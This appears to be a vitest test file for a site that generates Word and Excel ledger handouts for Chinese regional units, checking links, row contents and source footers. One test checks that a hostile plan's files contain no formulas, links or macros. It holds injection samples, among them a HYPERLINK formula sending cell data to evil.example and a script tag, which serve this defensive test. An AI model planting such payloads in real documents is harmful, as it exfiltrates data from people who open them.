import { readFileSync } from 'node:fs'
import { join } from 'node:path'
import { describe, expect, inject, it } from 'vitest'
import { listFiles } from '../../scripts/list-files.ts'
import { getAtlas, placeOf, placeUnitOf } from '../../src/atlas/index.ts'
import { ledgerCells, ledgerColumns, ledgerOfUnit } from '../../src/handout/ledger.ts'
import { docxRows, partsOf, readXml, xlsxRows } from '../handout/read-office.ts'
import type { BuiltSite } from './setup/build-sites.ts'
import { pagesOf } from './setup/site-files.ts'

const site = inject('site')
const atlas = await getAtlas()
const partsIn = ({ folder }: BuiltSite, file: string) => partsOf(new Uint8Array(readFileSync(join(folder, file))))

describe('documents to hand out', () => {
	it('every page of a unit and of a plan offers its 台账 as a Word file and as a spreadsheet', () => {
		const pages = pagesOf(site).filter(({ path }) => /^\/(?!embed\/)[^/]+\/units\/.+|^\/(quxian|ziyang|wushan|miyi|linyi)\/$/.test(path))
		expect(pages.length).toBe(atlas.plans.reduce((sum, { units }) => sum + units.length + 1, 0))
		for (const { path, links } of pages) {
			const offered = new Set(links.map(({ href }) => href))
			for (const form of ['docx', 'xlsx']) expect([path, offered.has(`${site.base}${path.slice(1, -1)}.${form}`)]).toEqual([path, true])
		}
	})

	it('the files of 市科协 have every row of its ledger, and where they are from', () => {
		const place = placeOf(atlas, 'ziyang')
		const ledger = ledgerOfUnit(atlas, place, placeUnitOf(place, 'shikexie'), { address: `${site.base}ziyang/units/shikexie/` })
		const rows = ledger.groups.flatMap(group => group.rows.map(row => ledgerCells(ledger, row).map(String)))
		expect(rows.length).toBe(76)
		const word = partsIn(site, 'ziyang/units/shikexie.docx')
		const sheet = partsIn(site, 'ziyang/units/shikexie.xlsx')
		const inWord = docxRows(word['word/document.xml'] ?? '').filter(row => row.length > 1)
		expect(inWord).toEqual([ledgerColumns(ledger), ...rows])
		expect(xlsxRows(sheet['xl/worksheets/sheet1.xml'] ?? '').slice(2, 3 + rows.length)).toEqual([ledgerColumns(ledger), ...rows])
		expect(word['word/footer1.xml']).toContain(`来源：责任 ${site.base}ziyang/units/shikexie/　数据版本 ${atlas.dataVersion}`)
	})

	it('a hostile plan gives files that open, without a formula, a link or a macro', () => {
		const hostile = inject('hostile')
		const files = listFiles(hostile.folder).filter(file => /\.(docx|xlsx)$/.test(file))
		const cells: string[] = []
		for (const file of files) {
			const parts = partsIn(hostile, file)
			for (const [name, xml] of Object.entries(parts)) expect([file, name, readXml(xml, find => find('/*').length)]).toEqual([file, name, 1])
			expect([file, Object.values(parts).filter(xml => /TargetMode="External"|<f>|<w:hyperlink|vbaProject/.test(xml))]).toEqual([file, []])
			cells.push(...docxRows(parts['word/document.xml'] ?? '').flat(), ...xlsxRows(parts['xl/worksheets/sheet1.xml'] ?? '').flat())
		}
		for (const words of ['=HYPERLINK("http://evil.example/?"&A1,"点这里")', '<script>window.hacked=1</script>', '&lt;b&gt;&#60;b&#62;'])
			expect([words, cells.some(cell => cell.includes(words))]).toEqual([words, true])
	})
})
